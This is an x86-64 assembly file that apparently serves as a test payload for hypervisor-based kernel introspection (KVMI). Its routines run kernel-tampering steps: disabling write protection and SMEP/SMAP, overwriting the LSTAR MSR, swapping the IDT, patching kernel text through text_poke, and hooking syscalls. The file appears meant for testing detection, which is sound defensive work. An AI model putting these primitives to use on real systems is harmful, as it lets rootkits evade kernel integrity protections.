# What an attacker who got code into the kernel does: one page, position-independent, entered as a function is called.
#
# The loader maps six pages as a module's would be (see `attacker.py`); what an exploit would have found out about the
# kernel (addresses, the frame of its target) stands in the data page. Interrupts are off throughout.

	.set	page, 0x1000
	.text
attacker_page:
	.set	params, attacker_page + 1 * page
	.set	idt_copy, attacker_page + 3 * page
	.set	window, attacker_page + 4 * page
	.set	window_entry, attacker_page + 5 * page + 5 * 8	# the page table, mapped behind its own pages

	.set	p_target, params + 0x00		# address of what is attacked
	.set	p_frame, params + 0x08		# guest physical address of it
	.set	p_size, params + 0x10		# bytes to store, a multiple of 8
	.set	p_function, params + 0x18	# a function of the kernel's
	.set	p_syscall, params + 0x20	# the system call whose table entry is replaced
	.set	p_entry, params + 0x28		# where system calls enter the kernel
	.set	p_helper, params + 0x30		# another, that it is to call
	.set	p_value, params + 0x40		# bytes to store
	.set	p_table, params + 0x70		# operand of SIDT and LIDT

	.set	CR0_WP, 1 << 16
	.set	CR4_SMEP_SMAP, 3 << 20
	.set	MSR_LSTAR, 0xc0000082

# Where every routine returns to: the machine takes the guest back when it halts here.
	.globl	finish
finish:
	hlt
	jmp	finish

# Where the machine sends a routine that raised an exception: as the kernel's exception table would.
	.globl	fixup
fixup:
	mov	%cr0, %rax
	or	$CR0_WP, %rax
	mov	%rax, %cr0
	jmp	finish

# Store the value at the target, through a mapping of its own: page rights of the kernel's don't count there.
	.globl	store_by_window
store_by_window:
	mov	p_frame(%rip), %rax
	mov	%rax, %rdi
	and	$-page, %rax
	or	$0x63, %rax			# present, writable, accessed, dirty
	mov	%rax, window_entry(%rip)
	invlpg	window(%rip)
	and	$(page - 1), %edi
	lea	window(%rip), %rax
	add	%rax, %rdi
	call	store
	movq	$0, window_entry(%rip)
	invlpg	window(%rip)
	ret

# Store it where it is, with write protection off meanwhile.
	.globl	store_without_wp
store_without_wp:
	mov	%cr0, %rax
	and	$~CR0_WP, %rax
	mov	%rax, %cr0
	mov	p_target(%rip), %rdi
	call	store
	mov	%cr0, %rax
	or	$CR0_WP, %rax
	mov	%rax, %cr0
	ret

# Store it where it is.
	.globl	store_plainly
store_plainly:
	mov	p_target(%rip), %rdi
store:
	lea	p_value(%rip), %rsi
	mov	p_size(%rip), %rcx
1:	mov	(%rsi), %rax
	mov	%rax, (%rdi)
	add	$8, %rsi
	add	$8, %rdi
	sub	$8, %rcx
	jnz	1b
	ret

	.globl	clear_smep
clear_smep:
	mov	%cr4, %rax
	and	$~CR4_SMEP_SMAP, %rax
	mov	%rax, %cr4
	ret

	.globl	set_lstar
set_lstar:
	mov	$MSR_LSTAR, %ecx
	mov	p_value(%rip), %rax
	mov	%rax, %rdx
	shr	$32, %rdx
	wrmsr
	ret

# A copy of the interrupt descriptor table, loaded instead of the kernel's.
	.globl	set_idtr
set_idtr:
	sidt	p_table(%rip)
	mov	p_table + 2(%rip), %rsi
	lea	idt_copy(%rip), %rdi
	mov	%rdi, p_table + 2(%rip)
	mov	$page, %ecx
	cld
	rep movsb
	lidt	p_table(%rip)
	ret

# Have the kernel fill five bytes of its text with NOPs: __text_poke(text_poke_memset, target, &value, 5).
	.globl	poke
poke:
	mov	p_helper(%rip), %rdi
	mov	p_target(%rip), %rsi
	lea	p_value(%rip), %rdx
	mov	$5, %ecx
	call	*p_function(%rip)
	ret

# The hypercall of KVMI.
	.globl	hypercall
hypercall:
	mov	$34, %eax
	mov	$24, %edi
	xor	%esi, %esi
	vmcall
	ret

# What the attacks leave behind: they do what was there before.
	.globl	hooked_syscall
hooked_syscall:
	jmp	*p_syscall(%rip)

	.globl	hooked_entry
hooked_entry:
	jmp	*p_entry(%rip)

# Behind the gate of a vector that nothing else uses, which user mode may come through.
	.globl	hooked_interrupt
hooked_interrupt:
	iretq
